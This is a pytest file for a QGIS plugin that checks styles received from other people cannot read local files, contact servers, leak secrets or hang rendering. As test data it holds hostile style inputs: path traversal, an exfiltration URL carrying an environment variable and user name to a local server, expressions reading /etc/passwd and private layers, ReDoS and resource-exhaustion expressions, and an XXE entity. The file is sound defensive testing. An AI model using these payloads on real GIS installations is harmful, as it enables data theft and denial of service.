"""A style of somebody else draws a layer, and does nothing else: it reads no file, asks no server, prints no secret."""

from __future__ import annotations

import base64
import http.server
import itertools
import re
import threading
import time
from xml.sax.saxutils import quoteattr

import numpy
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from osgeo import gdal, osr
from qgis.core import (
    Qgis,
    QgsApplication,
    QgsBalloonCallout,
    QgsCategorizedSymbolRenderer,
    QgsColorRampShader,
    QgsCoordinateReferenceSystem,
    QgsExpression,
    QgsExpressionContext,
    QgsExpressionContextUtils,
    QgsFeature,
    QgsFillSymbol,
    QgsGeometry,
    QgsGeometryGeneratorSymbolLayer,
    QgsGradientColorRamp,
    QgsGraduatedSymbolRenderer,
    QgsHeatmapRenderer,
    QgsHillshadeRenderer,
    QgsInvertedPolygonRenderer,
    QgsLineSymbol,
    QgsMapRendererParallelJob,
    QgsMapSettings,
    QgsMarkerSymbol,
    QgsPalettedRasterRenderer,
    QgsPalLayerSettings,
    QgsPointClusterRenderer,
    QgsProject,
    QgsProperty,
    QgsRasterLayer,
    QgsRasterShader,
    QgsRectangle,
    QgsRendererCategory,
    QgsRendererRange,
    QgsRuleBasedLabeling,
    QgsRuleBasedRenderer,
    QgsSingleBandGrayRenderer,
    QgsSingleBandPseudoColorRenderer,
    QgsSingleSymbolRenderer,
    QgsSvgMarkerSymbolLayer,
    QgsSymbolLayer,
    QgsTextBackgroundSettings,
    QgsTextBufferSettings,
    QgsVectorLayer,
    QgsVectorLayerSimpleLabeling,
)
from qgis.PyQt.QtCore import QSize
from qgis.PyQt.QtGui import QColor

from plugin.core.custommap.model import OwnLayer
from plugin.core.errors import CartoguideError
from plugin.core.trust.drawing import allowed_style
from plugin.core.trust.expressions import ALLOWED_FUNCTIONS, ALLOWED_VARIABLES, expression_problem
from plugin.gis.own_layers.references import apply_style, show_foreign, style_of
from plugin.gis.runtime.symbol_library import svg_library
from tests.pairwise import ALL
from tests.qgis.print_maps import pixels
from tests.slowness import slowness

CANARY = "#ff00fe"
CANARY_COLOUR = (255, 0, 254)
SIDE = 240
FIELDS = "&field=name:string(80)&field=pop:double&field=kind:string(10)"
SVG = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10" '
       'viewBox="0 0 10 10">{body}</svg>')
#: functions of QGIS 3.22 to 3.44 that have been looked at and are left out
LEFT_OUT = frozenset(["exif_geotag", "exif", "overlay_contains", "overlay_crosses", "overlay_disjoint",
    "overlay_equals", "overlay_intersects", "overlay_touches", "overlay_within", "overlay_nearest",
    "pole_of_inaccessibility", "geom_from_gml", "geomfromgml", "geom_from_wkb", "hausdorff_distance", "order_parts",
    "aggregate", "relation_aggregate", "count", "count_distinct", "count_missing", "minimum", "maximum", "sum",
    "mean", "median", "stdev", "range", "minority", "majority", "q1", "q3", "iqr", "min_length", "max_length",
    "collect", "concatenate", "concatenate_unique", "array_agg", "array_foreach", "array_filter", "array_all",
    "array_majority", "array_minority", "array_remove_all", "array_replace", "array_prioritize", "array_intersect",
    "array_distinct", "generate_series", "levenshtein", "longest_common_substring", "project_color",
    "project_color_object", "base_file_name", "file_suffix", "file_exists", "file_name", "is_file", "is_directory",
    "file_path", "file_size", "get_feature", "qgsexpressionutils::getfeature", "get_feature_by_id", "maptip",
    "display_expression", "is_selected", "num_selected", "sqlite_fetch_and_increment", "represent_value",
    "represent_attributes", "layer_property", "decode_uri", "var", "eval_template", "eval", "env", "with_variable",
    "is_layer_visible", "raster_statistic", "raster_value", "raster_attributes", "hstore_to_map", "map_to_hstore",
    "parameter", "current_value", "current_parent_value", "load_layer", "mesh_value", "concave_hull",
    "densify_by_distance", "wave", "wave_randomized", "square_wave", "square_wave_randomized", "triangular_wave",
    "triangular_wave_randomized", "apply_dash_pattern", "force_polygon", "repeat", "magnetic_declination",
    "magnetic_inclination", "magnetic_declination_rate_of_change", "magnetic_inclination_rate_of_change",
    "crs_from_text", "delaunay_triangulation", "voronoi_polygons", "evaluate", "layer_crs", "url_encode",
    "geometry_coverage_simplify"])


@pytest.fixture
def server():
    """A server of this machine that notes what it is asked for."""
    asked = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(404)
            self.end_headers()

        def log_message(self, *_given):
            """Say nothing."""

    running = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=running.serve_forever, daemon=True)
    thread.start()
    running.asked = asked
    running.url = f"http://127.0.0.1:{running.server_port}"
    yield running
    running.shutdown()
    thread.join()
    running.server_close()


def points(count=12, kind="Point"):
    """Features with a name, a number and a kind, in a square of 100 m."""
    layer = QgsVectorLayer(f"{kind}?crs=EPSG:25830{FIELDS}", "places", "memory")
    shapes = {"Point": "POINT({x} {y})", "LineString": "LINESTRING({x} {y},{u} {v},{u} {y})",
              "Polygon": "POLYGON(({x} {y},{u} {y},{u} {v},{x} {y}))"}
    features = []
    for number in range(count):
        x, y = 400_000 + 10 + 25 * (number % 4), 4_300_000 + 10 + 30 * (number // 4)
        feature = QgsFeature(layer.fields())
        feature.setGeometry(QgsGeometry.fromWkt(shapes[kind].format(x=x, y=y, u=x + 15, v=y + 20)))
        feature.setAttributes([f"place {number}", float(number), "abc"[number % 3]])
        features.append(feature)
    assert layer.dataProvider().addFeatures(features)[0]
    layer.updateExtents()
    return layer


def raster(folder, bands=3):
    path = str(folder / "ground.tif")
    image = gdal.GetDriverByName("GTiff").Create(path, 40, 40, bands, gdal.GDT_Float32)
    system = osr.SpatialReference()
    system.ImportFromEPSG(25830)
    image.SetProjection(system.ExportToWkt())
    image.SetGeoTransform((400_000, 2.5, 0, 4_300_100, 0, -2.5))
    heights = numpy.fromfunction(lambda row, column: 50 + 40 * numpy.sin(row / 6) * numpy.cos(column / 9), (40, 40))
    for band in range(1, bands + 1):
        image.GetRasterBand(band).WriteArray(heights * band)
    image.FlushCache()
    del image
    return QgsRasterLayer(path, "ground", "gdal")


def drawn(layer):
    """The image of a layer, within a time."""
    setup = QgsMapSettings()
    setup.setLayers([layer])
    setup.setOutputSize(QSize(SIDE, SIDE))
    setup.setDestinationCrs(QgsCoordinateReferenceSystem("EPSG:25830"))
    setup.setExtent(QgsRectangle(400_000, 4_300_000, 400_100, 4_300_100))
    setup.setBackgroundColor(QColor("white"))
    context = QgsExpressionContext(QgsExpressionContextUtils.globalProjectLayerScopes(layer))
    context.appendScope(QgsExpressionContextUtils.mapSettingsScope(setup))
    setup.setExpressionContext(context)
    job = QgsMapRendererParallelJob(setup)
    began = time.monotonic()
    job.start()
    while job.isActive() and time.monotonic() - began < 30 * slowness():
        QgsApplication.processEvents()
        time.sleep(0.005)
    is_over = not job.isActive()
    job.cancelWithoutBlocking()
    job.waitForFinished()
    assert is_over, "the drawing ended"
    return job.renderedImage()


def colours(image):
    return set(map(tuple, numpy.unique(pixels(image)[:, :, 2::-1].reshape(-1, 3), axis=0).tolist()))


def own(layer, style):
    return OwnLayer("id", layer.name(), "vector" if isinstance(layer, QgsVectorLayer) else "raster",
                    layer.providerType(), layer.source(), style)


def shown_as_foreign(layer, style=None):
    """A new layer of the same data, shown as a foreign document with the layer's style says, and what was left out."""
    twin = layer.clone()
    if isinstance(twin, QgsVectorLayer):
        twin.setRenderer(QgsSingleSymbolRenderer(QgsMarkerSymbol.createSimple({"color": "1,2,3"}) if (
            twin.geometryType() == 0) else QgsFillSymbol.createSimple({}) if twin.geometryType() == 2 else
            QgsLineSymbol.createSimple({})))
        twin.setLabeling(None)
    left_out = show_foreign(twin, own(twin, style_of(layer) if style is None else style))
    return twin, left_out


# sound styles


def single(layer, symbol):
    layer.setRenderer(QgsSingleSymbolRenderer(symbol))
    return layer


def categorized(_folder):
    layer = points()
    layer.setRenderer(QgsCategorizedSymbolRenderer("kind", [
        QgsRendererCategory(value, QgsMarkerSymbol.createSimple({"color": colour, "size": "6", "name": shape}), value)
        for value, colour, shape in (("a", "red", "square"), ("b", "blue", "star"), ("", "green", "circle"))]))
    return layer


def by_expression(_folder):
    layer = points()
    layer.setRenderer(QgsCategorizedSymbolRenderer("CASE WHEN \"pop\" % 2 = 0 THEN 'even' ELSE 'odd' END", [
        QgsRendererCategory(value, QgsMarkerSymbol.createSimple({"color": colour, "size": "6"}), value)
        for value, colour in (("even", "red"), ("odd", "blue"))]))
    return layer


def graduated(_folder):
    layer = points()
    renderer = QgsGraduatedSymbolRenderer("pop", [
        QgsRendererRange(low, low + 4, QgsMarkerSymbol.createSimple({"color": colour, "size": str(4 + low)}), "")
        for low, colour in ((0, "255,200,0"), (4, "255,100,0"), (8, "200,0,0"))])
    renderer.setSourceColorRamp(QgsGradientColorRamp(QColor("yellow"), QColor("red")))
    layer.setRenderer(renderer)
    return layer


def rules(_folder):
    layer = points()
    root = QgsRuleBasedRenderer.Rule(None)
    for rule, colour in (('"pop" > 6 AND "kind" IN (\'a\', \'b\')', "red"), ("\"name\" LIKE 'place 1%'", "blue"),
                         ("ELSE", "100,100,100")):
        root.appendChild(QgsRuleBasedRenderer.Rule(QgsMarkerSymbol.createSimple({"color": colour, "size": "5"}),
                                                   0, 0, rule, rule))
    layer.setRenderer(QgsRuleBasedRenderer(root))
    return layer


def label_settings(expression="upper(\"name\") || ' · ' || format_number(\"pop\", 1)"):
    setup = QgsPalLayerSettings()
    setup.fieldName, setup.isExpression = expression, True
    style = setup.format()
    style.setSize(7)
    style.setColor(QColor("darkblue"))
    buffer = QgsTextBufferSettings()
    buffer.setEnabled(True)
    style.setBuffer(buffer)
    setup.setFormat(style)
    setup.displayAll = True
    return setup


def labels(_folder):
    layer = points()
    setup = label_settings()
    setup.dataDefinedProperties().setProperty(QgsPalLayerSettings.Property.Size,
                                              QgsProperty.fromExpression('6 + "pop" / 4'))
    setup.dataDefinedProperties().setProperty(QgsPalLayerSettings.Property.Bold, QgsProperty.fromField("pop"))
    layer.setLabeling(QgsVectorLayerSimpleLabeling(setup))
    layer.setLabelsEnabled(True)
    return layer


def callouts(_folder):
    layer = points(4)
    setup = label_settings('"name"')
    setup.dist = 8
    callout = QgsBalloonCallout()
    callout.setFillSymbol(QgsFillSymbol.createSimple({"color": "255,255,150", "outline_color": "red"}))
    callout.setEnabled(True)
    setup.setCallout(callout)
    layer.setLabeling(QgsVectorLayerSimpleLabeling(setup))
    layer.setLabelsEnabled(True)
    return layer


def rule_labels(_folder):
    layer = points()
    root = QgsRuleBasedLabeling.Rule(None)
    root.appendChild(QgsRuleBasedLabeling.Rule(label_settings('"name"'), 0, 0, '"pop" > 6', "large"))
    layer.setLabeling(QgsRuleBasedLabeling(root))
    layer.setLabelsEnabled(True)
    return layer


def by_attribute(_folder):
    symbol = QgsMarkerSymbol.createSimple({"color": "200,0,100", "name": "triangle"})
    symbol.setDataDefinedSize(QgsProperty.fromExpression('scale_linear("pop", 0, 12, 2, 9)'))
    symbol.setDataDefinedAngle(QgsProperty.fromField("pop"))
    symbol.symbolLayer(0).setDataDefinedProperty(QgsSymbolLayer.Property.PropertyFillColor, QgsProperty.fromExpression(
        'color_hsv("pop" * 20, 80, 90)'))
    return single(points(), symbol)


def transformed(_folder):
    symbol = QgsMarkerSymbol.createSimple({"color": "200,0,100"})
    size = QgsProperty.fromField("pop")
    from qgis.core import QgsSizeScaleTransformer

    size.setTransformer(QgsSizeScaleTransformer(QgsSizeScaleTransformer.ScaleType.Exponential, 0, 12, 1, 12, 0, 0.6))
    symbol.setDataDefinedSize(size)
    return single(points(), symbol)


def heat(_folder):
    layer = points()
    renderer = QgsHeatmapRenderer()
    renderer.setRadius(12)
    renderer.setWeightExpression('"pop"')
    renderer.setColorRamp(QgsGradientColorRamp(QColor(255, 255, 255, 0), QColor("red")))
    layer.setRenderer(renderer)
    return layer


def clusters(_folder):
    layer = points()
    renderer = QgsPointClusterRenderer()
    renderer.setTolerance(12)
    layer.setRenderer(renderer)
    return layer


def outside(_folder):
    layer = points(kind="Polygon")
    layer.setRenderer(QgsInvertedPolygonRenderer(QgsSingleSymbolRenderer(QgsFillSymbol.createSimple(
        {"color": "0,80,160,120"}))))
    return layer


def generated(_folder):
    generator = QgsGeometryGeneratorSymbolLayer.create({
        "geometryModifier": "buffer(centroid($geometry), 4 + \"pop\" / 3, 12)", "SymbolType": "Fill"})
    generator.setSubSymbol(QgsFillSymbol.createSimple({"color": "0,160,0,120"}))
    symbol = QgsMarkerSymbol()
    symbol.changeSymbolLayer(0, generator)
    return single(points(), symbol)


def library_svg(_folder):
    marker = QgsSvgMarkerSymbolLayer(str(svg_library() / "arrows" / "NorthArrow_02.svg"), 9)
    symbol = QgsMarkerSymbol()
    symbol.changeSymbolLayer(0, marker)
    symbol.setDataDefinedSize(QgsProperty.fromExpression('6 + "pop" / 3'))
    assert 'value="arrows/NorthArrow_02.svg"' in style_of(single(points(), symbol.clone()))
    return single(points(), symbol)


def embedded_svg(_folder):
    picture = SVG.format(body='<path d="M5 0 10 10 0 10z" fill="param(fill) #f00" stroke="#003"/>').encode()
    marker = QgsSvgMarkerSymbolLayer("base64:" + base64.b64encode(picture).decode(), 9)
    marker.setFillColor(QColor("orange"))
    symbol = QgsMarkerSymbol()
    symbol.changeSymbolLayer(0, marker)
    return single(points(), symbol)


def library_fill(_folder):
    fill = QgsApplication.symbolLayerRegistry().symbolLayerMetadata("SVGFill").createSymbolLayer(
        {"svgFile": str(svg_library() / "arrows" / "NorthArrow_02.svg"), "width": "8"})
    symbol = QgsFillSymbol()
    symbol.changeSymbolLayer(0, fill)
    assert 'value="arrows/NorthArrow_02.svg"' in style_of(single(points(kind="Polygon"), symbol.clone()))
    return single(points(kind="Polygon"), symbol)


def embedded_raster(folder):
    with open(canary_png(folder), "rb") as file:
        picture = "base64:" + base64.b64encode(file.read()).decode()
    marker = QgsApplication.symbolLayerRegistry().symbolLayerMetadata("RasterMarker").createSymbolLayer(
        {"imageFile": picture, "size": "8"})
    symbol = QgsMarkerSymbol()
    symbol.changeSymbolLayer(0, marker)
    return single(points(), symbol)


def label_on_a_library_svg(_folder):
    layer = points()
    setup = label_settings('"kind"')
    style = setup.format()
    shape = style.background()
    shape.setEnabled(True)
    shape.setType(QgsTextBackgroundSettings.ShapeType.ShapeSVG)
    shape.setSvgFile(str(svg_library() / "arrows" / "NorthArrow_02.svg"))
    style.setBackground(shape)
    setup.setFormat(style)
    layer.setLabeling(QgsVectorLayerSimpleLabeling(setup))
    layer.setLabelsEnabled(True)
    return layer


def lines(_folder):
    registry = QgsApplication.symbolLayerRegistry()
    marks = registry.symbolLayerMetadata("MarkerLine").createSymbolLayer({"interval": "4"})
    symbol = QgsLineSymbol.createSimple({"line_color": "red", "line_width": "0.8", "customdash": "5;2",
                                         "use_custom_dash": "1"})
    symbol.appendSymbolLayer(marks)
    return single(points(kind="LineString"), symbol)


def patterns(_folder):
    registry = QgsApplication.symbolLayerRegistry()
    symbol = QgsFillSymbol.createSimple({"color": "250,250,200"})
    for name in ("LinePatternFill", "PointPatternFill", "GradientFill", "ShapeburstFill"):
        layer = registry.symbolLayerMetadata(name).createSymbolLayer({"alpha": "0.5"})
        symbol.appendSymbolLayer(layer)
    return single(points(kind="Polygon"), symbol)


def hillshade(folder):
    layer = raster(folder)
    layer.setRenderer(QgsHillshadeRenderer(layer.dataProvider(), 1, 315, 45))
    return layer


def heights(folder):
    layer = raster(folder)
    shading = QgsColorRampShader(10, 90, QgsGradientColorRamp(QColor("green"), QColor("brown")))
    shading.classifyColorRamp(7)
    shader = QgsRasterShader()
    shader.setRasterShaderFunction(shading)
    layer.setRenderer(QgsSingleBandPseudoColorRenderer(layer.dataProvider(), 1, shader))
    layer.brightnessFilter().setContrast(20)
    return layer


def grey(folder):
    layer = raster(folder)
    layer.setRenderer(QgsSingleBandGrayRenderer(layer.dataProvider(), 2))
    layer.setDefaultContrastEnhancement()
    return layer


def palette(folder):
    layer = raster(folder)
    layer.setRenderer(QgsPalettedRasterRenderer(layer.dataProvider(), 1, [
        QgsPalettedRasterRenderer.Class(50, QColor("red"), "fifty"),
        QgsPalettedRasterRenderer.Class(51, QColor("blue"), "more")]))
    return layer


def three_bands(folder):
    return raster(folder)


SOUND = (categorized, by_expression, graduated, rules, labels, callouts, rule_labels, by_attribute, transformed, heat,
         clusters, outside, generated, library_svg, embedded_svg,
         library_fill, embedded_raster, label_on_a_library_svg, lines, patterns, hillshade, heights, grey, palette,
         three_bands)


@pytest.mark.parametrize("make", SOUND, ids=lambda make: make.__name__)
def test_a_sound_style_looks_the_same(project, tmp_path, make):
    layer = make(tmp_path)
    twin, left_out = shown_as_foreign(layer)
    assert left_out == ()
    expected = drawn(layer)
    assert len(colours(expected)) > 1
    assert drawn(twin) == expected


#: symbol layers without a picture are nothing, and those that are refused
PICTURE_LAYERS = {"SvgMarker", "RasterMarker", "AnimatedMarker", "SVGFill", "RasterFill", "RasterLine"}


@pytest.mark.parametrize(("kind", "make"), (("Point", QgsMarkerSymbol), ("LineString", QgsLineSymbol),
                                            ("Polygon", QgsFillSymbol)))
def test_nothing_of_a_default_symbol_is_left_out(project, kind, make):
    registry, symbol_type = QgsApplication.symbolLayerRegistry(), make().type()
    # the labels of a linear referencing symbol, from QGIS 3.40 on, are a style inside an option, which is left out
    names = set(registry.symbolLayersForType(symbol_type)) - PICTURE_LAYERS - {"LinearReferencing"}
    assert len(names) > 5
    for name in names:
        symbol = make()
        symbol.changeSymbolLayer(0, registry.symbolLayerMetadata(name).createSymbolLayer({}))
        style = style_of(single(points(kind=kind), symbol))
        assert f'class="{name}"' in style
        assert allowed_style(style, svg_library()).left_out == (), name


# hostile styles


def canary_file(folder):
    path = folder / "canary.svg"
    path.write_text(SVG.format(body=f'<rect width="10" height="10" fill="{CANARY}"/>'), "utf-8")
    return str(path)


def with_symbol(layer_class, options, kind="Point", extra=""):
    """The style of a layer whose symbol has one layer of this class, in both forms of its options."""
    layer = points(kind=kind)
    style = style_of(layer)
    written = "".join(f"<Option type={quoteattr('QString')} name={quoteattr(key)} value={quoteattr(value)}/>"
                      for key, value in options.items())
    former = "".join(f"<prop k={quoteattr(key)} v={quoteattr(value)}/>" for key, value in options.items())
    changed = re.sub(r'(<layer [^>]*class=")[^"]*("[^>]*>).*?</layer>', lambda found: (
        f'{found.group(1)}{layer_class}{found.group(2)}<Option type="Map">{written}</Option>{former}{extra}</layer>'),
        style, count=1, flags=re.DOTALL)
    assert layer_class in changed
    return layer, changed


def data_defined(key, expression, kind=3):
    return (f'<data_defined_properties><Option type="Map"><Option type="QString" name="name" value=""/>'
            f'<Option name="properties" type="Map"><Option name="{key}" type="Map">'
            f'<Option name="active" type="bool" value="true"/><Option name="expression" type="QString" '
            f'value={quoteattr(expression)}/><Option name="field" type="QString" value={quoteattr(expression)}/>'
            f'<Option name="type" type="int" value="{kind}"/></Option></Option>'
            f'<Option type="QString" name="type" value="collection"/></Option></data_defined_properties>')


def with_label(expression):
    layer = points()
    layer.setLabeling(QgsVectorLayerSimpleLabeling(label_settings("'CANARY-PLACE'")))
    layer.setLabelsEnabled(True)
    style = style_of(layer)
    assert "CANARY-PLACE" in style
    return layer, re.sub(r'fieldName="[^"]*"', lambda _found: f"fieldName={quoteattr(expression)}", style)


def picture_path(folder, _server):
    return with_symbol("SvgMarker", {"name": canary_file(folder), "size": "20"})


def picture_by_its_name(folder, _server):
    canary_file(folder)
    return with_symbol("SvgMarker", {"name": "canary.svg", "size": "20"})


def picture_beyond_the_library(folder, _server):
    path = canary_file(folder)
    return with_symbol("SvgMarker", {"name": "arrows/" + "../" * 12 + path.lstrip("/"), "size": "20"})


def picture_in_a_data_defined_path(folder, _server):
    return with_symbol("SvgMarker", {"name": "arrows/NorthArrow_02.svg", "size": "20"},
                       extra=data_defined("name", f"'{canary_file(folder)}'"))


def picture_of_an_embedded_svg(folder, _server):
    picture = canary_png(folder)
    text = SVG.format(body=f'<image width="10" height="10" xlink:href="{picture}"/>')
    return with_symbol("SvgMarker", {"name": "base64:" + base64.b64encode(text.encode()).decode(), "size": "20"})


def canary_png(folder):
    from qgis.PyQt.QtGui import QImage

    image = QImage(20, 20, QImage.Format.Format_RGB32)
    image.fill(QColor(CANARY))
    path = folder / "canary.png"
    assert image.save(str(path))
    return str(path)


def raster_marker(folder, _server):
    return with_symbol("RasterMarker", {"imageFile": canary_png(folder), "size": "20"})


def raster_fill(folder, _server):
    return with_symbol("RasterFill", {"imageFile": canary_png(folder), "width": "20"}, "Polygon")


def svg_fill(folder, _server):
    return with_symbol("SVGFill", {"svgFile": canary_file(folder), "width": "20"}, "Polygon")


def label_background(folder, _server):
    layer, style = with_label("'x'")
    return layer, re.sub(r"<background [^>]*>", lambda found: re.sub(
        r'shapeSVGFile="[^"]*"', f'shapeSVGFile="{canary_file(folder)}"', re.sub(
            r'shapeType="[^"]*"', 'shapeType="4"', re.sub(
                r'shapeDraw="0"', 'shapeDraw="1"', re.sub(
                    r'shapeSize([XY])="0"', r'shapeSize\1="20"', found.group())))), style)


PICTURES = (picture_path, picture_by_its_name, picture_beyond_the_library, picture_in_a_data_defined_path,
            picture_of_an_embedded_svg, raster_marker, raster_fill, svg_fill, label_background)


@pytest.mark.parametrize("make", PICTURES, ids=lambda make: make.__name__)
def test_no_picture_of_another_file_is_drawn(project, tmp_path, monkeypatch, make):
    monkeypatch.chdir(tmp_path)
    layer, style = make(tmp_path, None)
    trusted = layer.clone()
    apply_style(trusted, style)
    assert CANARY_COLOUR in colours(drawn(trusted)), "the style of the person is trusted"
    twin, left_out = shown_as_foreign(layer, style)
    assert CANARY_COLOUR not in colours(drawn(twin))
    assert any("pictures" in text for text in left_out)
    assert len(colours(drawn(twin))) > 1, "the features are seen all the same"


def web_marker(_folder, server):
    return with_symbol("SvgMarker", {"name": f"{server.url}/marker.svg", "size": "20"})


def web_raster(_folder, server):
    return with_symbol("RasterMarker", {"imageFile": f"{server.url}/marker.png", "size": "20"})


def web_data_defined(_folder, server):
    return with_symbol("SvgMarker", {"name": "arrows/NorthArrow_02.svg", "size": "20"}, extra=data_defined(
        "name", f"'{server.url}/' || env('CARTOGUIDE_CANARY') || '/' || @user_account_name"))


def web_data_defined_field(_folder, server):
    layer, style = with_symbol("SvgMarker", {"name": "arrows/NorthArrow_02.svg", "size": "20"},
                               extra=data_defined("name", "name", kind=2))
    for feature in list(layer.getFeatures()):
        layer.dataProvider().changeAttributeValues({feature.id(): {0: f"{server.url}/field.svg"}})
    return layer, style


def web_fill(_folder, server):
    return with_symbol("SVGFill", {"svgFile": f"{server.url}/fill.svg", "width": "20"}, "Polygon")


def web_virtual_file(_folder, server):
    return with_symbol("RasterMarker", {"imageFile": f"/vsicurl/{server.url}/marker.png", "size": "20"})


@pytest.mark.parametrize("make", (web_marker, web_raster, web_data_defined, web_data_defined_field, web_fill,
                                  web_virtual_file), ids=lambda make: make.__name__)
def test_nothing_is_asked_of_a_server(project, tmp_path, monkeypatch, server, wait_until, make):
    monkeypatch.setenv("CARTOGUIDE_CANARY", "word-of-the-canary")
    layer, style = make(tmp_path, server)
    twin, left_out = shown_as_foreign(layer, style)
    drawn(twin)
    drawn(twin)
    assert server.asked == []
    assert left_out
    if make is not web_virtual_file:
        trusted = layer.clone()
        apply_style(trusted, style)
        drawn(trusted)
        wait_until(lambda: server.asked)


def secret_layer():
    """A layer of the person's own in the open project, with a word that nobody else is to read."""
    layer = QgsVectorLayer("Point?crs=EPSG:25830&field=secret:string(80)", "private", "memory")
    feature = QgsFeature(layer.fields())
    feature.setAttributes(["word-of-the-canary"])
    feature.setGeometry(QgsGeometry.fromWkt("POINT(400050 4300050)"))
    assert layer.dataProvider().addFeatures([feature])[0]
    QgsProject.instance().addMapLayer(layer)
    return layer


READING = (
    "env('CARTOGUIDE_CANARY')", "ENV('CARTOGUIDE_CANARY')", "\"name\" || env ( 'CARTOGUIDE_CANARY' )",
    "@user_account_name", "@user_full_name || 'x'", "@project_folder || 'x'", "@project_home || 'x'",
    "@qgis_os_name", "var('user_' || 'account_name')", "@person",
    "aggregate('private', 'max', \"secret\")", "attribute(get_feature_by_id('private', 1), 'secret')",
    "layer_property('private', 'path')", "eval('env(''CARTOGUIDE_' || 'CANARY'')')",
    "with_variable('a', env('CARTOGUIDE_CANARY'), @a)", "array_to_string(array_foreach(array(1), @user_account_name))",
    "concatenate(\"name\")", "file_size('/etc/passwd')", "base_file_name(@project_path) || 'x'",
    "map_get(item_variables('map'), 'user_account_name')", "represent_value(\"name\")",
    "CASE WHEN true THEN @user_account_name END", "coalesce(NULL, @user_account_name)",
    "array(@user_account_name)[0]", "eval_template('[% @user_account_name %]')",
    "overlay_nearest('private', \"secret\")[0]", "decode_uri('private', 'path') || 'x'",
    "'\\'' || @user_account_name || '\\''", "'a''' || @user_account_name || '''b'",
    "/* ' */ @user_account_name /* ' */",
    "-- '\n@user_account_name -- '",
)


@pytest.mark.parametrize("expression", READING)
def test_no_label_prints_what_is_not_of_the_layer(project, monkeypatch, expression):
    monkeypatch.setenv("CARTOGUIDE_CANARY", "word-of-the-canary")
    QgsExpressionContextUtils.setGlobalVariable("person", "word-of-the-canary")
    try:
        secret_layer()
        layer, style = with_label(expression)
        twin, left_out = shown_as_foreign(layer, style)
        layer.setLabeling(None)
        assert drawn(twin) == drawn(layer), "there is no label"
        assert any("expressions" in text for text in left_out)
        assert twin.labeling() is None or expression not in twin.labeling().settings().fieldName
    finally:
        QgsExpressionContextUtils.removeGlobalVariable("person")


ENDLESS = (
    "array_to_string(array_foreach(generate_series(1, 1000000000), @element))",
    "array_length(generate_series(1, 1e9))", "lpad('x', 2000000000, 'y')", "rpad(\"name\", 1e9, 'y')",
    "regexp_replace(repeat('a', 40), '(a+)+b', '')", "regexp_match('" + "a" * 60 + "!', '(a+)+$')",
    "geom_to_wkt(buffer($geometry, 10, 1000000000))", "num_points(make_regular_polygon($geometry, $geometry, 1e9))",
    "num_points(smooth($geometry, 40))",
    "length(" + "replace(" * 12 + "'aaaaaaaaaa'" + ", 'a', 'aaaaaaaaaaaa')" * 12 + ")",
    "length(" + "format('%1%1%1%1%1%1%1%1%1%1', " * 12 + "'a'" + ")" * 12 + ")",
    "'" + "a" * 40 + "!' ~ '(a|a|a|a|a)*(a|a|a)*(a|a)*b'", "\"name\" LIKE '%a%a%a%a%a%a%a%a%a%'",
    "format_number(1.5, 2000000000)", "(" * 5000 + "1" + ")" * 5000, "1" + " + 1" * 200_000,
)


@pytest.mark.parametrize("expression", ENDLESS, ids=lambda expression: expression[:50])
def test_no_expression_runs_without_end(project, expression):
    layer, style = with_label(expression)
    twin, left_out = shown_as_foreign(layer, style)
    drawn(twin)
    assert any("expressions" in text for text in left_out)


def test_a_geometry_is_not_generated_without_end(project):
    layer, style = with_symbol("GeometryGenerator", {
        "geometryModifier": "collect_geometries(array_foreach(generate_series(1, 1e9), $geometry))",
        "SymbolType": "Marker"})
    twin, left_out = shown_as_foreign(layer, style)
    assert len(colours(drawn(twin))) > 1
    assert left_out


@pytest.mark.parametrize(("layer_class", "options", "kind"), (
    ("MarkerLine", {"interval": "0.0000001", "interval_unit": "MM", "placement": "interval"}, "LineString"),
    ("HashLine", {"interval": "1e-12", "interval_unit": "Pixel", "placement": "interval"}, "LineString"),
    ("PointPatternFill", {"distance_x": "0.0000001", "distance_y": "0.0000001"}, "Polygon"),
    ("LinePatternFill", {"distance": "0.00000001"}, "Polygon"),
    ("RandomMarkerFill", {"point_count": "2000000000"}, "Polygon"),
    ("RandomMarkerFill", {"count_method": "1", "point_count": "100000", "density_area": "1e-12"}, "Polygon"),
    ("RasterMarker", {"imageFile": "base64:" + base64.b64encode(
        base64.b64decode("R0lGODlhAQABAIAAAP8AAAAAACH5BAAAAAAALAAAAAABAAEAAAICRAEAOw==")).decode(),
        "size": "900000"}, "Point"),
), ids=lambda value: value if isinstance(value, str) else None)
def test_sizes_and_distances_are_bounded(project, layer_class, options, kind):
    layer, style = with_symbol(layer_class, options, kind)
    twin, left_out = shown_as_foreign(layer, style)
    drawn(twin)
    assert left_out


@pytest.mark.parametrize("change", (
    lambda style: style.replace('name="name" value="', 'NAME="name" value="'),
    lambda style: re.sub(r"<Option ([^>]*)/>", r"<x:Option xmlns:x='urn:x' \1/>", style),
    lambda style: style.replace("</qgis>", "<renderer-v2 type='embeddedSymbol'/><script>1</script></qgis>"),
    lambda style: re.sub(r'<Option type="QString" name="name"[^>]*/>', lambda found: (
        f'<Option type="Map" name="x"><Option type="List" name="y">{found.group()}</Option></Option>{found.group()}'),
        style),
    lambda style: style.replace("<renderer-v2 ", "<!-- <renderer-v2> --><renderer-v2 "),
    lambda style: re.sub(r'<Option type="QString" name="name" value="([^"]*canary[^"]*)"/>', (
        r'<Option type="QString" name="name" value="circle"/><Option type="QString" name="name" value="\1"/>'), style),
    lambda style: re.sub(r'<Option type="QString" name="name" value="([^"]*canary[^"]*)"/>', (
        r'<Option type="StringList" name="name"><Option type="QString" value="\1"/></Option>'), style),
    lambda style: re.sub(r'<Option type="Map">.*?</Option>', "", style, flags=re.DOTALL),
    lambda style: style.replace(' enabled="1"', ' enabled="0"', 1).replace("<symbol ", "<symbol x='1' "),
), ids=itertools.count())
def test_a_hidden_path_is_found(project, tmp_path, change):
    path = canary_file(tmp_path)
    layer, style = with_symbol("SvgMarker", {"name": path, "size": "20"})
    twin, _left_out = shown_as_foreign(layer, change(style))
    assert CANARY_COLOUR not in colours(drawn(twin))
    assert path not in style_of(twin)


def test_entities_are_refused_and_a_document_type_is_not(project):
    layer = categorized(None)
    style = style_of(layer)
    assert style.startswith("<!DOCTYPE qgis")
    hostile = style.replace("<!DOCTYPE qgis", '<!DOCTYPE qgis [<!ENTITY x SYSTEM "file:///etc/passwd">] ><!--', 1)
